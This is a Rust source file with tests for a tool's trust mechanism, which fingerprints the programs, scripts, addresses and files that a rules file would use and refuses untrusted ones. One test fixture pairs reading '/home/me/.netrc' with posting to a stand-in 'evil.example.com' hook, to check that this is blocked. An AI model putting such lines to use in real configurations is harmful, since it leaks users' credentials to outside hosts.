//! What somebody has allowed the rules: each program, address and file elsewhere by a fingerprint of its own.
//!
//! A fingerprint holds for one directory, for exactly these words, and for the bytes of the scripts that they name: a checkout
//! elsewhere, another argument and a script that changes are something else. It is taken anew whenever it is asked for. What a
//! program reads besides, such as a script that is named inside of `sh -c`'s text, is not known here.

use std::fs::Metadata;
use std::io::{self, Read as _};
use std::os::unix::fs::MetadataExt as _;
use std::path::{Path, PathBuf};

use sha2::{Digest as _, Sha256};

use super::rule_set::RulesInForce;
use crate::error::{Error, Kind, Result};
use crate::image::Digest;
use crate::input;
use crate::rules::{Permission, Purpose};
use crate::text::printable_within;

/// What a fingerprint begins with: another way to take one needs another word here.
const FINGERPRINT_VERSION: &str = "roadstead-permission-1";
/// Bytes of the largest script whose bytes are read; of a larger one its size and times stand for it.
const MAX_SCRIPT_BYTES: u64 = 1 << 30;
/// Bytes that are read of a script at once.
const BUFFER_BYTES: usize = 64 << 10;
/// Shells whose words behind the text of `-c` are data for it.
const SHELLS: [&str; 6] = ["sh", "bash", "dash", "ash", "zsh", "ksh"];
/// Characters of a permission that an error shows.
const MAX_SHOWN_CHARACTERS: usize = 300;

/// A permission that rules need, and what stands for it where it was given.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Allowance {
    /// What it allows.
    pub permission: Permission,
    /// Its fingerprint, as of when it was taken.
    pub(super) fingerprint: Digest,
}

impl RulesInForce {
    /// What these rules need to be allowed, as it is at this moment.
    pub fn allowances(&self) -> Vec<Allowance> {
        let base = self.base();
        let permissions = self.rules.permissions(&base).into_iter();
        permissions.map(|permission| Allowance { fingerprint: fingerprint(&permission, &base), permission }).collect()
    }

    /// What of it nobody has seen and allowed yet, for people.
    pub fn untrusted(&self) -> Vec<String> {
        self.not_allowed().iter().map(ToString::to_string).collect()
    }

    fn not_allowed(&self) -> Vec<Permission> {
        let allowances = self.allowances().into_iter();
        allowances.filter(|allowance| !self.allows(allowance)).map(|allowance| allowance.permission).collect()
    }

    pub(super) fn allows(&self, allowance: &Allowance) -> bool {
        let known = self.trusted.as_deref().unwrap_or_default();
        known.chunks(allowance.fingerprint.as_bytes().len()).any(|known| known == allowance.fingerprint.as_bytes())
    }

    /// Allows these beside what is allowed already.
    pub(in crate::engine) fn allow(&mut self, more: &[Allowance]) {
        let more = more.iter().filter(|allowance| !self.allows(allowance));
        let more: Vec<u8> = more.flat_map(|allowance| *allowance.fingerprint.as_bytes()).collect();
        self.trusted.get_or_insert_default().extend(more);
    }

    /// The same rules with no hook but those that were allowed and have not changed since.
    #[must_use]
    pub fn with_allowed_hooks(mut self) -> Self {
        let base = self.base();
        let hooks = std::mem::take(&mut self.rules.hooks).into_iter();
        self.rules.hooks = hooks
            .filter(|hook| {
                let permission = hook.permission();
                self.allows(&Allowance { fingerprint: fingerprint(&permission, &base), permission })
            })
            .collect();
        self
    }

    /// Refuses rules that do what nobody has allowed: a checkout must not run code, nor send anything away, by being read.
    pub fn check_trust(&self) -> Result<()> {
        self.refuse(&self.not_allowed())
    }

    /// The same of their gate alone, which is asked where no rule is carried out.
    pub(in crate::engine) fn check_trust_of_gate(&self) -> Result<()> {
        let mut untrusted = self.not_allowed();
        untrusted.retain(|permission| matches!(permission, Permission::Run { purpose: Purpose::Gate, .. }));
        self.refuse(&untrusted)
    }

    fn refuse(&self, untrusted: &[Permission]) -> Result<()> {
        if untrusted.is_empty() {
            return Ok(());
        }
        let what = self.file.as_ref().map_or_else(|| "the rules".to_owned(), |file| shown(file));
        let does = deeds(untrusted);
        let lines = untrusted
            .iter()
            .map(|permission| format!("\n  {}", printable_within(&permission.to_string(), MAX_SHOWN_CHARACTERS)));
        let message = format!("{what} would {does} that were not allowed:{}", lines.collect::<String>());
        let verb = self.file.as_ref().map_or_else(
            || "`roadstead rule trust`".to_owned(),
            |file| format!("`roadstead rule trust {}`", shown(file)),
        );
        Err(Error::new(Kind::Usage, message).hint(format!("Look at them; {verb} allows exactly these.")))
    }
}

/// What rules with these would do: `run programs and read files elsewhere`.
fn deeds(permissions: &[Permission]) -> String {
    let of = |permission: &Permission| match permission {
        Permission::Run { .. } => "run programs",
        Permission::Post { .. } | Permission::Ping(_) => "send events to addresses",
        Permission::Read(_) => "read files",
    };
    let mut deeds: Vec<&str> = Vec::new();
    for deed in permissions.iter().map(of) {
        if !deeds.contains(&deed) {
            deeds.push(deed);
        }
    }
    match deeds.split_last() {
        Some((last, [])) => (*last).to_owned(),
        Some((last, before)) => format!("{} and {last}", before.join(", ")),
        None => String::new(),
    }
}

fn shown(file: &Path) -> String {
    printable_within(&file.display().to_string(), MAX_SHOWN_CHARACTERS)
}

/// Each part with its length before it, so that no two lists are the same bytes.
struct Parts(Sha256);

impl Parts {
    fn push(&mut self, part: &[u8]) {
        self.0.update((part.len() as u64).to_be_bytes());
        self.0.update(part);
    }
}

fn fingerprint(permission: &Permission, base: &Path) -> Digest {
    let mut parts = Parts(Sha256::new());
    parts.push(FINGERPRINT_VERSION.as_bytes());
    parts.push(base.as_os_str().as_encoded_bytes());
    let said = permission.parts();
    parts.push(&(said.len() as u64).to_be_bytes());
    for part in said {
        parts.push(part.as_bytes());
    }
    for script in permission.program().map(|words| scripts(words, base)).unwrap_or_default() {
        parts.push(&state(&script));
    }
    Digest::from_bytes(parts.0.finalize().into())
}

/// The files that a program's words name: itself, if it is named by a path, and its arguments below `base`.
fn scripts(words: &[String], base: &Path) -> Vec<PathBuf> {
    let data = data_of_shell(words);
    let named = words.iter().enumerate().filter_map(|(place, word)| {
        // `--file=script.sh` names one, too.
        let path = match word.split_once('=') {
            Some((flag, value)) if flag.starts_with('-') => Path::new(value),
            _ => Path::new(word),
        };
        let is_script = match place {
            // Without a slash it is searched for where the system has its programs.
            0 => word.contains('/'),
            // What a shell's text is given by its absolute path is what it works on, a log for example.
            _ if path.is_absolute() => data.is_none_or(|data| place < data) && is_below(path, base),
            _ => true,
        };
        is_script.then(|| base.join(path))
    });
    named.collect()
}

/// Where the words behind the text of `sh -c TEXT` begin.
fn data_of_shell(words: &[String]) -> Option<usize> {
    let program = Path::new(words.first()?).file_name()?.to_str()?;
    if !SHELLS.contains(&program) {
        return None;
    }
    let mut place = 1;
    while let Some(letters) = words.get(place)?.strip_prefix('-').filter(|rest| !rest.starts_with('-')) {
        if letters.contains('c') {
            return Some(place + 2);
        }
        // `-o pipefail` has a word of its own.
        place += if letters.ends_with('o') { 2 } else { 1 };
    }
    None
}

fn is_below(path: &Path, base: &Path) -> bool {
    let real = |path: &Path| std::fs::canonicalize(path);
    path.starts_with(base) || real(path).is_ok_and(|path| real(base).is_ok_and(|base| path.starts_with(base)))
}

/// What stands for a file: its bytes, or why there are none to see.
fn state(path: &Path) -> Vec<u8> {
    match digest(path) {
        Ok(digest) => digest.as_bytes().to_vec(),
        Err(error) => format!("none: {:?}", error.kind()).into_bytes(),
    }
}

fn digest(path: &Path) -> io::Result<Digest> {
    let mut file = input::open_regular(path)?;
    let about = file.metadata()?;
    if about.len() > MAX_SCRIPT_BYTES {
        return Ok(Digest::of(times(&about).as_bytes()));
    }
    let mut hash = Sha256::new();
    let mut buffer = vec![0; BUFFER_BYTES];
    loop {
        match file.read(&mut buffer) {
            Ok(0) => return Ok(Digest::from_bytes(hash.finalize().into())),
            Ok(read) => hash.update(&buffer[..read]),
            Err(error) if error.kind() == io::ErrorKind::Interrupted => {}
            Err(error) => return Err(error),
        }
    }
}

fn times(about: &Metadata) -> String {
    let (changed, nanoseconds) = (about.ctime(), about.ctime_nsec());
    format!("{} bytes, modified at {}, changed at {changed}.{nanoseconds}", about.len(), about.mtime())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn written(directory: &Path, file: &str, text: &str) -> PathBuf {
        let path = directory.join(file);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, text).unwrap();
        path
    }

    /// Rules of a file in a directory with everything allowed that they need now.
    fn allowed(directory: &Path, text: &str) -> RulesInForce {
        let file = directory.join("mirror.toml");
        let mut rules = RulesInForce::read(text.to_owned(), Some(file)).unwrap();
        rules.allow(&rules.allowances());
        assert_eq!(rules.untrusted(), [""; 0]);
        rules
    }

    /// The same permissions for another text, or in another place.
    fn untrusted(rules: &RulesInForce, directory: &Path, text: &str) -> Vec<String> {
        let read = RulesInForce::read(text.to_owned(), Some(directory.join("mirror.toml"))).unwrap();
        RulesInForce { trusted: rules.trusted.clone(), ..read }.untrusted()
    }

    #[test]
    fn the_same_letters_in_other_words_are_another_program() {
        let directory = tempfile::tempdir().unwrap();
        let rules = allowed(directory.path(), "gate = ['sh', '-c', 'exit 1']");
        assert_eq!(untrusted(&rules, directory.path(), "gate = ['sh', '-c', 'exit', '1']"), ["gate: sh -c exit 1"]);
        assert_eq!(untrusted(&rules, directory.path(), "[[hook]]\nrun = ['sh', '-c', 'exit 1']").len(), 1);
    }

    #[test]
    fn what_is_allowed_here_is_not_allowed_in_another_checkout() {
        let [here, there] = [(), ()].map(|()| tempfile::tempdir().unwrap());
        let text = "gate = ['kubeadm', 'config']";
        let rules = allowed(here.path(), text);
        assert_eq!(untrusted(&rules, here.path(), text).len(), 0);
        assert_eq!(untrusted(&rules, there.path(), text).len(), 1);
    }

    #[test]
    fn a_script_that_changes_comes_or_goes_is_another_program() {
        let directory = tempfile::tempdir().unwrap();
        let at = directory.path();
        let path = |file: &str| at.join(file).display().to_string();
        for (number, words) in [
            "'sh', '@@'".to_owned(),
            "'./@@'".to_owned(),
            format!("'sh', '{}'", path("@@")),
            format!("'{}'", path("@@")),
            format!("'bash', '-e', '{}'", path("sub/../@@")),
            format!("'prog', '--file={}'", path("@@")),
            "'sh', '-c', '. \"$0\"', '@@'".to_owned(),
        ]
        .into_iter()
        .enumerate()
        {
            let name = format!("{number}.sh");
            std::fs::create_dir_all(at.join("sub")).unwrap();
            let text = format!("gate = [{}]", words.replace("@@", &name));
            let script = written(at, &name, "exit 0");
            let rules = allowed(at, &text);
            std::fs::write(&script, "exit 1").unwrap();
            assert_eq!(rules.untrusted().len(), 1, "{text}");
            std::fs::write(&script, "exit 0").unwrap();
            assert_eq!(rules.untrusted().len(), 0, "{text}");
            std::fs::remove_file(&script).unwrap();
            assert_eq!(rules.untrusted().len(), 1, "{text}");
            let rules = allowed(at, &text);
            std::fs::write(&script, "exit 0").unwrap();
            assert_eq!(rules.untrusted().len(), 1, "one that was not there was seen by nobody: {text}");
        }
    }

    #[test]
    fn a_script_of_any_size_is_looked_at() {
        let directory = tempfile::tempdir().unwrap();
        let script = written(directory.path(), "large.sh", "exit 0\n");
        let file = std::fs::File::options().write(true).open(&script).unwrap();
        for bytes in [(64 << 20) + 1, MAX_SCRIPT_BYTES + 1] {
            file.set_len(bytes).unwrap();
            let rules = allowed(directory.path(), "gate = ['./large.sh']");
            std::os::unix::fs::FileExt::write_at(&file, b"exit 1\n", 0).unwrap();
            assert_eq!(rules.untrusted().len(), 1, "{bytes}");
            std::os::unix::fs::FileExt::write_at(&file, b"exit 0\n", 0).unwrap();
        }
    }

    #[test]
    fn what_a_shells_text_works_on_is_no_script() {
        let directory = tempfile::tempdir().unwrap();
        let log = directory.path().join("log").display().to_string();
        let rules =
            allowed(directory.path(), &format!("gate = ['bash', '-eo', 'pipefail', '-c', 'cat >> $0', '{log}']"));
        std::fs::write(&log, "told").unwrap();
        assert_eq!(rules.untrusted().len(), 0);
    }

    #[test]
    fn addresses_and_files_elsewhere_have_to_be_allowed_and_each_is_allowed_by_itself() {
        let directory = tempfile::tempdir().unwrap();
        let before = "[[hook]]\nping = 'https://hc.example.com/uuid'\n";
        let rules = allowed(directory.path(), before);
        let more = "[[rule]]\nsources = ['list:/home/me/.netrc']\n[[hook]]\npost = 'http://evil.example.com/x'\n";
        let read = RulesInForce::read(format!("{more}{before}"), Some(directory.path().join("mirror.toml"))).unwrap();
        let rules = RulesInForce { trusted: rules.trusted, ..read };
        let error = rules.check_trust().unwrap_err().to_string();
        assert!(error.contains("would read files and send events to addresses that were not allowed"), "{error}");
        assert!(error.contains("list:/home/me/.netrc") && error.contains("post: http://evil.example.com/…"), "{error}");
        assert!(!error.contains("hc.example.com"), "{error}");
        let hooks = rules.with_allowed_hooks().rules.hooks;
        assert_eq!(hooks.iter().map(crate::rules::Hook::label).collect::<Vec<_>>(), ["https://hc.example.com"]);
    }
}
